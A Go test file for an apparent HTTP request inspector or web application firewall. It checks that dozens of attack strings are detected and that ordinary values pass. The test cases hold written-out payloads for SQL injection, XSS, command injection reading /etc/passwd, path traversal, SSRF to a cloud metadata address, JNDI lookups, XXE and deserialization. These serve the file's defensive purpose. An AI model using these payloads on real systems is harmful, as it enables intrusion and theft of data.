package inspect

import (
	"bytes"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// seen inspects one value and gives class, decoding and whether it counts at the default threshold.
func seen(in *Inspector, value string) (string, string) {
	in.Begin([]byte("GET"))
	in.Value(ZoneQuery, []byte("q"), []byte(value))
	w := in.Worst()
	if w == nil || w.Confidence < DefaultThreshold {
		return "", ""
	}
	return w.Class.String(), w.Decoding.String()
}

func TestAttacksAreNamed(t *testing.T) {
	cases := []struct{ name, value, class, decoding string }{
		{"a tautology leaves its string", "1' or '1'='1", "sqli", "plain"},
		{"a union asks for columns", "7 union all select name,2 from staff", "sqli", "plain"},
		{"comments stand for spaces", "9/**/union/**/select/**/1,2", "sqli", "plain"},
		{"a keyword is split by a comment", "1 un/**/ion se/**/lect 2", "sqli", "plain"},
		{"percent signs twice", "%2527%2520or%25201%253D1--", "sqli", "percent+twice"},
		{"full-width letters", "1＇ or ＇1＇=＇1", "sqli", "wide"},
		{"base64", "MScgb3IgJzEnPScxJyAtLSA=", "sqli", "base64"},
		{"a script element", "<script>alert(1)</script>", "xss", "plain"},
		{"an event attribute", `" onfocus=alert(1) autofocus x="`, "xss", "plain"},
		{"entities", "&lt;svg&#x20;onload=x&gt;", "xss", "entity"},
		{"escapes", `\u003csvg onload=x\u003e`, "xss", "escaped"},
		{"a command behind a separator", "8.8.8.8; cat /etc/passwd", "cmdi", "plain"},
		{"a substitution", "a$(whoami)", "cmdi", "plain"},
		{"a way up the tree", "../../../../etc/passwd", "traversal", "plain"},
		{"overlong slashes", "..%c0%af..%c0%af..%c0%afetc/shadow", "traversal", "percent+twice+wide"},
		{"a metadata address", "http://169.254.169.254/latest/meta-data/", "ssrf", "plain"},
		{"loopback as a number", "http://2130706433/", "ssrf", "plain"},
		{"arithmetic in a template", "{{7*7}}", "ssti", "plain"},
		{"Python's internals", "{{''.__class__.__mro__}}", "ssti", "plain"},
		{"an expression reaches the runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}", "el", "plain"},
		{"JNDI", "${jndi:ldap://x.test/a}", "jndi", "plain"},
		{"JNDI hides", "${${lower:j}ndi:ldap://x.test/a}", "jndi", "plain"},
		{"an LDAP filter is left", "*)(uid=*))(|(uid=*", "ldap", "plain"},
		{"an XPath predicate is left", "']/parent::node()", "xpath", "plain"},
		{"an entity", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`, "xxe", "plain"},
		{"a server-side include", `<!--#exec cmd="id"-->`, "ssi", "plain"},
		{"a header is split", "x\r\nSet-Cookie: a=b", "crlf", "plain"},
		{"a mail gets another recipient", "joe@example.com\nBcc: all@example.com", "mail", "plain"},
		{"Java's stream", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "deserialization", "base64"},
		{"PHP's object", `O:8:"stdClass":1:{s:1:"a";i:1;}`, "deserialization", "plain"},
		{"a prototype", "__proto__", "prototype", "plain"},
		{"an operator", `{"$ne": ""}`, "nosqli", "plain"},
		{"a literal minus a quote", "' or ''-'", "sqli", "plain"},
		{"a condition of JSON operators", `' or '{"a":1}'::jsonb @> '{"a":1}'::jsonb--`, "sqli", "plain"},
		{"an alias of a call", "x=alert,x(1)", "xss", "plain"},
		{"an attribute submits elsewhere", `<button formaction=//x.test>`, "xss", "plain"},
		{"an escape of CSS", `<p style="w:\65 xpression(x)">`, "xss", "escaped"},
		{"carets within a command", "w^h^o^am^i", "cmdi", "plain"},
		{"parts of a variable", ";${PATH:0:1}bin${PATH:0:1}id", "cmdi", "plain"},
		{"a command line by the shell's name", "%COMSPEC% /c dir", "cmdi", "plain"},
		{"a variable of Perl", "$ENV{'HOME'}", "cmdi", "plain"},
		{"a way around by a semicolon", "..;/manager", "traversal", "plain"},
		{"a user's name hides the address", "https://x.test:443@169.254.169.254/", "ssrf", "plain"},
		{"IPv4 within IPv6", "http://[0:0:0:0:0:ffff:7f00:1]/", "ssrf", "plain"},
		{"a filter behind a name", "joe(|(uid=*)(cn=a*))", "ldap", "plain"},
		{"a query of XML", "for $x in doc('a')//b return $x", "xpath", "plain"},
		{"an edge's include", `<esi:debug/>`, "ssi", "plain"},
		{"a log's line", "x\n2024-01-02 03:04:05 INFO root logged in", "crlf", "plain"},
		{"a mail server's command", "x\r\nA1 CAPABILITY\r\n", "mail", "plain"},
		{"options of a mailer", "a@b.test -OQueueDirectory=/tmp -X/tmp/x.php", "mail", "plain"},
		{"a pickle", "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "deserialization", "base64"},
		{"a type's name", `{"@type":"java.lang.AutoCloseable"}`, "deserialization", "plain"},
		{"JSON is left", `x"}},{"match_all":{}}],"must_not":[{"term":{"a":"b`, "nosqli", "plain"},
		{"a graph is emptied", "match (n) detach delete n", "nosqli", "plain"},
		{"a literal's method", `{{"a".toUpperCase()}}`, "ssti", "plain"},
		{"nothing's class", `"".getClass().forName("x")`, "el", "plain"},
	}
	in := New()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			class, decoding := seen(in, c.value)
			if diff := cmp.Diff([]string{c.class, c.decoding}, []string{class, decoding}); diff != "" {
				t.Errorf("%q: %s", c.value, diff)
			}
		})
	}
}

func TestHonestValuesPass(t *testing.T) {
	in := New()
	for _, v := range []string{
		"", "42", "O'Brien", "D'Angelo & Sons", "rock 'n' roll", "Select a drink from the menu and drop us a line",
		"The union of select committees or 1 other body", "https://example.com/a?b=c&d=e", "2025-01-02T03:04:05Z",
		"5 or 6 people; find the best seat", "AT&T", "C:\\Users\\joe\\Documents\\report.docx", "price > 5 and price < 10",
		"{{ user.first_name }}", "${name}", "<p>Hello <b>world</b></p>", "import x from '../../lib/x'", "#1 in sales -- again!",
		"$where is my order?", "Please call (555) 123-4567; ask for Ana.", "0x1f4a9", "-33.8688,151.2093",
		"To escape a quote in SQL you double it: 'it''s'. Never build queries with + and user input, whatever the article says.",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJlc2ln",
		"curl/8.4.0", "cat food", "drop table reservation", "delete from cart", "Use `rm -rf dist` and then `npm install`", "0 5 * * * /usr/local/bin/backup",
		"Lesson 3: `; cat /etc/passwd` after a host name is command injection; see the book.", "console.log(\"hello\");", "df[df['a'] > 5].groupby('b')",
		`{"$schema":"http://json-schema.org/draft-07/schema#"}`, "default-src 'self'; script-src 'unsafe-inline' https:", "select flowers from Nice today",
		"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><style>.a{fill:none}</style><circle r=\"4\"/></svg>", "onClick={() => open()} re-renders the list",
	} {
		if class, _ := seen(in, v); class != "" {
			t.Errorf("%q counts as %s", v, class)
		}
	}
}

// places puts one attack into every place of a request.
func TestAttacksAreFoundInEveryPlace(t *testing.T) {
	const attack = "x' or '1'='1"
	const escaped = "x%27+or+%271%27%3D%271"
	type request struct{ target, contentType, cookie, header, body string }
	cases := []struct {
		name  string
		r     request
		place string
	}{
		{"query", request{target: "/a?b=" + escaped}, "query:b"},
		{"query name", request{target: "/a?" + escaped + "=1"}, "queryname"},
		{"path segment", request{target: "/a/x%27%20or%20%271%27=%271/c"}, "path"},
		{"header", request{target: "/", header: attack}, "header:x-note"},
		{"cookie", request{target: "/", cookie: "a=b; c=" + attack}, "cookie:c"},
		{"form", request{target: "/", contentType: "application/x-www-form-urlencoded", body: "a=1&b=" + escaped}, "form:b"},
		{"json value", request{target: "/", contentType: "application/json", body: `{"a":{"b":["` + attack + `"]}}`}, "json:a.b"},
		{"json key", request{target: "/", contentType: "application/json", body: `{"` + attack + `":1}`}, "jsonkey"},
		{"json escapes", request{target: "/", contentType: "application/json", body: `{"a":"x\u0027 or \u00271\u0027=\u00271"}`}, "json:a"},
		{"graphql string", request{target: "/", contentType: "application/json", body: `{"query":"{ user(name: \"` + attack + `\") { id } }"}`}, "graphql"},
		{"graphql variable", request{target: "/", contentType: "application/json", body: `{"query":"query q { a }","variables":{"v":"` + attack + `"}}`}, "json:variables.v"},
		{"multipart field", request{target: "/", contentType: "multipart/form-data; boundary=b", body: "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n" + attack + "\r\n--b--\r\n"}, "multipart:f"},
		{"multipart file name", request{target: "/", contentType: "multipart/form-data; boundary=b", body: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"" + attack + "\"\r\n\r\nok\r\n--b--\r\n"}, "filename:f"},
		{"xml text", request{target: "/", contentType: "application/xml", body: "<a><b>" + attack + "</b></a>"}, "xml:a.b"},
		{"xml attribute", request{target: "/", contentType: "text/xml", body: `<a><b c="` + attack + `"/></a>`}, "xml:a.b"},
		{"text", request{target: "/", contentType: "text/plain", body: attack}, "text"},
		{"grpc", request{target: "/", contentType: "application/grpc", body: "\x00\x00\x00\x00\x10\x0a\x0c" + attack + "\x18\x01"}, "protobuf"},
		{"no content type", request{target: "/", body: `{"a":"` + attack + `"}`}, "json:a"},
	}
	in := New()
	for _, c := range cases {
		for _, piece := range []int{1, 7, 1 << 20} {
			in.Begin([]byte("POST"))
			in.Target([]byte(c.r.target))
			in.Header([]byte("x-note"), []byte(c.r.header))
			in.Header([]byte("cookie"), []byte(c.r.cookie))
			b := in.Body([]byte(c.r.contentType))
			for at := 0; at < len(c.r.body); at += piece {
				b.Feed([]byte(c.r.body[at:min(at+piece, len(c.r.body))]))
			}
			b.End()
			w := in.Worst()
			if w == nil || w.Class != SQL || w.Place() != c.place {
				t.Errorf("%s, in pieces of %d: got %+v, want sqli at %s", c.name, piece, in.Findings(), c.place)
			}
		}
	}
}

func TestTheMatchedValueIsMasked(t *testing.T) {
	in := New()
	in.Begin([]byte("GET"))
	in.Value(ZoneQuery, []byte("q"), []byte("secretname' union select secretcolumn,4711 from secrettable --"))
	for _, f := range in.Findings() {
		if strings.Contains(f.Tokens, "secret") || strings.Contains(f.Tokens, "4711") || !strings.Contains(f.Tokens, "union select") {
			t.Errorf("tokens: %q", f.Tokens)
		}
	}
	if len(in.Findings()) == 0 {
		t.Error("nothing found")
	}
}

func TestNothingAllocatesForOrdinaryRequests(t *testing.T) {
	in := New()
	method, target := []byte("POST"), []byte("/v1/customers/4711/orders?limit=20&sort=-created&q=blue+shoes")
	names := [][]byte{[]byte("user-agent"), []byte("cookie"), []byte("authorization"), []byte("referer")}
	values := [][]byte{
		[]byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
		[]byte("session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
		[]byte("Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJlc2ln"),
		[]byte("https://shop.example.com/search?q=blue+shoes"),
	}
	kind := []byte("application/json")
	body := []byte(`{"customer":{"name":"Siobhán O'Neill","email":"s@example.com"},"items":[{"sku":"A-1","qty":2}],"note":"Don't ring; leave it at the door (left)."}`)
	allocs := testing.AllocsPerRun(100, func() {
		in.Begin(method)
		in.Target(target)
		for i := range names {
			in.Header(names[i], values[i])
		}
		b := in.Body(kind)
		b.Feed(body)
		b.End()
	})
	if allocs != 0 || len(in.Findings()) != 0 {
		t.Errorf("%v allocations, findings %+v", allocs, in.Findings())
	}
}

// Worst cases are counted in bytes looked at deeply, not in time.
func TestTheWorstInputsAreBounded(t *testing.T) {
	const size = 1 << 20
	cases := map[string]struct{ kind, body string }{
		"quotes":               {"application/json", `{"a":"` + strings.Repeat("'", size) + `"}`},
		"percent signs":        {"application/x-www-form-urlencoded", "a=" + strings.Repeat("%", size)},
		"percent of percent":   {"application/x-www-form-urlencoded", "a=" + strings.Repeat("%25", size/3)},
		"brackets":             {"application/json", strings.Repeat("[", size)},
		"nested objects":       {"application/json", strings.Repeat(`{"a":`, size/5)},
		"opened comments":      {"text/plain", strings.Repeat("/*", size/2)},
		"or with brackets":     {"text/plain", strings.Repeat("or((", size/4)},
		"elements":             {"text/plain", strings.Repeat("<img src", size/8)},
		"entities":             {"text/xml", strings.Repeat("&#x3c;", size/6)},
		"many suspicious ones": {"application/json", "[" + strings.Repeat(`"' or 1=1--",`, size/13) + "1]"},
	}
	in := New()
	for name, c := range cases {
		in.Begin([]byte("POST"))
		b := in.Body([]byte(c.kind))
		b.Feed([]byte(c.body))
		b.End()
		fed, deep := in.Work()
		if bound := deepAllowance + fed/deepShare + window; deep > bound || fed > len(c.body) {
			t.Errorf("%s: %d bytes in, %d looked at deeply, want at most %d", name, fed, deep, bound)
		}
		if len(in.Findings()) > maxFindings {
			t.Errorf("%s: %d findings", name, len(in.Findings()))
		}
	}
}

func TestLongValuesHideNothingOnTheBorderOfWindows(t *testing.T) {
	in := New()
	for at := window - 40; at < window+40; at += 7 {
		in.Begin([]byte("POST"))
		b := in.Body([]byte("application/json"))
		b.Feed([]byte(`{"a":"` + strings.Repeat("w", at) + ` 1' union select 1,2 from staff--"}`))
		b.End()
		if w := in.Worst(); w == nil || w.Class != SQL || w.Confidence < DefaultThreshold {
			t.Errorf("at %d: %+v", at, in.Findings())
		}
	}
}

func TestBombsAndOdditiesAreNamed(t *testing.T) {
	jsonType := []byte("application/json")
	cases := []struct {
		name, body string
		class      Class
		rule       string
	}{
		{"depth", strings.Repeat("[", 200), JSONBomb, "depth"},
		{"an exponent", `{"a":1e99999}`, JSONBomb, "number"},
		{"a name twice", `{"a":1,"a":2}`, Oddity, "duplicate-key"},
		{"introspection", `{"query":"{ __schema { types { name } } }"}`, GraphQL, "introspection"},
		{"aliases", `{"query":"{ ` + strings.Repeat("a: login(p: 1) { t } ", 40) + `}"}`, GraphQL, "aliases"},
		{"fragments in a circle", `{"query":"query { a { ...A } } fragment A on X { b { ...B } } fragment B on X { a { ...A } }"}`, GraphQL, "circular-fragments"},
		{"an operator", `{"user":{"$gt":""}}`, NoSQL, "operator-key"},
		{"a prototype", `{"__proto__":{"admin":true}}`, Prototype, "prototype-key"},
		{"a class", `{"@type":"com.sun.rowset.JdbcRowSetImpl"}`, Deserialization, "type-name"},
	}
	in := New()
	for _, c := range cases {
		in.Begin([]byte("POST"))
		b := in.Body(jsonType)
		b.Feed([]byte(c.body))
		b.End()
		if w := in.Worst(); w == nil || w.Class != c.class || w.Rule != c.rule {
			t.Errorf("%s: got %+v", c.name, in.Findings())
		}
	}
}

func TestPatternsOfTokens(t *testing.T) {
	in := New()
	in.lex([]byte("select 'a' from x.y"))
	l := &in.look
	for pattern, want := range map[string]bool{"select Q a Q": true, "S": true, "W Q A Q from|into": true, "N": false, "select N": false, "A Q W Q X W . W E": true, "| ": false} {
		if got := l.seq(0, pattern); got != want {
			t.Errorf("%q: got %v", pattern, got)
		}
	}
	if !l.among(1, `"'`) || l.among(1, "|&") || l.seq(-1, "select") || !l.seq(-1, "A select") {
		t.Error("signs or places before the first token")
	}
}

func TestTokensAndFraming(t *testing.T) {
	cases := []struct {
		name    string
		headers [][2]string
		class   Class
	}{
		{"no algorithm", [][2]string{{"authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."}}, Token},
		{"two lengths", [][2]string{{"content-length", "1"}, {"content-length", "2"}}, Oddity},
		{"length and encoding", [][2]string{{"content-length", "1"}, {"transfer-encoding", "chunked"}}, Oddity},
		{"a scanner", [][2]string{{"user-agent", "sqlmap/1.7"}}, Scanner},
		{"a command in an agent's name", [][2]string{{"user-agent", "Mozilla/5.0 (X11); cat /etc/passwd"}}, Command},
		{"an agent that is no product", [][2]string{{"user-agent", "/etc/passwd"}}, Traversal},
		{"headers to drop on the way", [][2]string{{"connection", "close, X-Forwarded-For"}}, Oddity},
		{"an address of one's own", [][2]string{{"x-originating-ip", "127.0.0.1"}}, Oddity},
		{"many ranges", [][2]string{{"range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"}}, Oddity},
	}
	in := New()
	for _, c := range cases {
		in.Whole([]byte("GET"), []byte("/"), c.headers, nil)
		if w := in.Worst(); w == nil || w.Class != c.class || w.Confidence < DefaultThreshold {
			t.Errorf("%s: got %+v", c.name, in.Findings())
		}
	}
}

func BenchmarkGet(b *testing.B) {
	in := New()
	target := []byte("/v1/customers/4711/orders?limit=20&sort=-created")
	header := [][2][]byte{}
	for _, h := range [][2]string{{"user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
		{"cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"}, {"authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJlc2ln"},
		{"referer", "https://shop.example.com/search?q=blue+shoes"}, {"accept", "application/json"}, {"x-request-id", "8f14e45f-ceea-167a-5a36-dedd4bea2543"}} {
		header = append(header, [2][]byte{[]byte(h[0]), []byte(h[1])})
	}
	for b.Loop() {
		in.Begin([]byte("GET"))
		in.Target(target)
		for _, h := range header {
			in.Header(h[0], h[1])
		}
	}
}

func BenchmarkBody(b *testing.B) {
	ordinary := bytes.Repeat([]byte(`{"name":"Ana Maria Lopez","street":"12 Main St.","n":42,"mail":"ana@example.com"},`), 12800)
	for name, body := range map[string][]byte{"ordinary": append(append([]byte("["), ordinary...), "1]"...),
		"quotes":   []byte(`["` + strings.Repeat("'", len(ordinary)) + `"]`),
		"percent":  []byte(`["` + strings.Repeat("%25", len(ordinary)/3) + `"]`),
		"depth":    []byte(strings.Repeat("[", len(ordinary))),
		"elements": []byte(`["` + strings.Repeat("<img src", len(ordinary)/8) + `"]`),
		"or":       []byte(`["` + strings.Repeat("or(( ", len(ordinary)/5) + `"]`),
		"600B":     append(append([]byte("["), ordinary[:590]...), "1]"...)} {
		b.Run(name, func(b *testing.B) {
			in := New()
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				in.Begin([]byte("POST"))
				r := in.Body([]byte("application/json"))
				r.Feed(body)
				r.End()
			}
		})
	}
}

func TestNoEncodingOfTextIsAWayAround(t *testing.T) {
	const body = `{"name":"x' OR 1=1 UNION SELECT password FROM users -- "}`
	utf16 := func(little bool) []byte {
		var b []byte
		for _, c := range []byte(body) {
			if little {
				b = append(b, c, 0)
			} else {
				b = append(b, 0, c)
			}
		}
		return b
	}
	for name, b := range map[string][]byte{
		"UTF-16, little endian": utf16(true), "UTF-16, big endian": utf16(false),
		"UTF-16 with a mark": append([]byte{0xff, 0xfe}, utf16(true)...), "UTF-8 with a mark": append([]byte{0xef, 0xbb, 0xbf}, body...),
	} {
		t.Run(name, func(t *testing.T) {
			in := New()
			in.Begin([]byte("POST"))
			r := in.Body([]byte("application/json"))
			for _, c := range b {
				r.Feed([]byte{c})
			}
			r.End()
			if w := in.Worst(); w == nil || w.Class != SQL || w.Zone != ZoneJSON || w.Name != "name" {
				t.Errorf("found %+v", in.Findings())
			}
		})
	}
	in := New()
	in.Begin([]byte("POST"))
	r := in.Body([]byte("multipart/form-data"))
	r.Feed([]byte("a=x' OR 1=1 UNION SELECT password FROM users -- "))
	r.End()
	if w := in.Worst(); w == nil || w.Class != SQL {
		t.Errorf("without a boundary: found %+v", in.Findings())
	}
}
